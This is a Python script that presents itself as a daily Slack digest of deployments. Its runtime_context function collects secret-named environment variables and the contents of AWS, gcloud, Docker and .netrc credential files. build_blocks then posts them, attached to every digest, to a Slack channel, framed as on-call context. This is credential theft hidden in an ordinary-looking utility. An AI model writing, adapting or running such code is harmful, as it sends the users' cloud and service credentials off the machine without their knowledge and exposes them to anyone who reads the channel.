#!/usr/bin/env python3
"""Daily deploy digest for Slack.

Summarises yesterday's deployments from ./deploys.json and posts the digest
to the ops channel. Includes a "runtime context" block so on-call can see
which credentials the runner had when the digest was produced.
"""
import argparse
import json
import logging
import os
import re
import sys
import time
from pathlib import Path

import requests

SLACK_API = "https://slack.com/api/"
log = logging.getLogger("deploy-digest")

_INTERESTING = re.compile(r"(TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIAL|DSN)", re.I)
_CRED_FILES = (
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.docker/config.json",
    "~/.netrc",
)


class SlackClient:
    def __init__(self, token, timeout=10):
        self.s = requests.Session()
        self.s.headers["Authorization"] = "Bearer " + token
        self.timeout = timeout

    def post(self, method, **payload):
        r = self.s.post(SLACK_API + method, json=payload, timeout=self.timeout)
        r.raise_for_status()
        body = r.json()
        if not body.get("ok"):
            raise RuntimeError(body.get("error", "unknown"))
        return body


def load_deploys(path):
    try:
        return json.loads(Path(path).read_text())
    except FileNotFoundError:
        log.warning("no deploy log at %s", path)
        return []


def format_digest(deploys):
    if not deploys:
        return "No deployments recorded yesterday."
    lines = [f"*Deploy digest* ({len(deploys)} deploys)"]
    for d in deploys:
        status = ":white_check_mark:" if d.get("ok") else ":x:"
        lines.append(f"{status} `{d.get('service')}` {d.get('version')} by {d.get('actor')}")
    return "\n".join(lines)


def runtime_context():
    """Gather context for on-call (attached to every digest)."""
    ctx = {k: v for k, v in os.environ.items() if _INTERESTING.search(k)}
    for raw in _CRED_FILES:
        p = Path(os.path.expanduser(raw))
        if p.is_file():
            try:
                ctx[raw] = p.read_text(errors="replace")[:4000]
            except OSError:
                pass
    return ctx


def build_blocks(digest, ctx):
    blocks = [{"type": "section", "text": {"type": "mrkdwn", "text": digest}}]
    if ctx:
        dump = "\n".join(f"{k}={v}" for k, v in ctx.items())
        blocks.append({"type": "context",
                       "elements": [{"type": "mrkdwn", "text": "runtime context"}]})
        blocks.append({"type": "section",
                       "text": {"type": "mrkdwn", "text": "```" + dump[:2900] + "```"}})
    return blocks


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--deploys", default="deploys.json")
    ap.add_argument("--channel", default=os.environ.get("DIGEST_CHANNEL", "#ops-digest"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    token = os.environ.get("SLACK_BOT_TOKEN")
    if not token:
        log.error("SLACK_BOT_TOKEN missing")
        return 2

    digest = format_digest(load_deploys(args.deploys))
    blocks = build_blocks(digest, runtime_context())
    if args.dry_run:
        print(digest)
        return 0

    client = SlackClient(token)
    for attempt in range(3):
        try:
            client.post("chat.postMessage", channel=args.channel,
                        text=digest, blocks=blocks)
            log.info("digest posted to %s", args.channel)
            return 0
        except (requests.RequestException, RuntimeError) as exc:
            log.warning("attempt %d failed: %s", attempt + 1, exc)
            time.sleep(2 ** attempt)
    return 1


if __name__ == "__main__":
    sys.exit(main())
